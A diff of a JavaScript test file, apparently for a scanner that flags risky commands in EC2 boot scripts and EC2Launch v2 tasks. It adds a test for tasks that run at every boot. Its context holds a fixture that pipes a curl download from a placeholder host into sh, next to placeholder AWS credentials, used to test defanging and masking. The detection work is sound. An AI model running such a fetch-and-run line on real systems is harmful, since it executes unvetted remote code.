@@ -61,6 +61,12 @@ it('counts lines from 1 within the part and names the part', () => {
   expect(find(text)).toContainEqual(expect.objectContaining({ kind: 'pipe-to-shell', part: '2', line: 3 }));
 });
 
+it('leaves tasks of EC2Launch v2 that carry no command alone, though they are applied at every boot', () => {
+  expect(find('version: 1.0\ntasks:\n- task: startSsm\n')).toEqual([]);
+  const program = '- task: executeProgram\n  inputs:\n  - frequency: always\n    path: C:\\a.exe\n';
+  expect(find(`version: 1.0\ntasks:\n${program}`).map(({ kind }) => kind)).toEqual(['runs-every-boot']);
+});
+
 it('defangs addresses and masks keys wherever they stand', () => {
   const found = find(
     '#!/bin/sh\ncurl http://files.example.com/a?k=AKIAIOSFODNN7EXAMPLE | sh\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI0K7MDENG0bPxRfiCYEXAMPLEKEY\n',
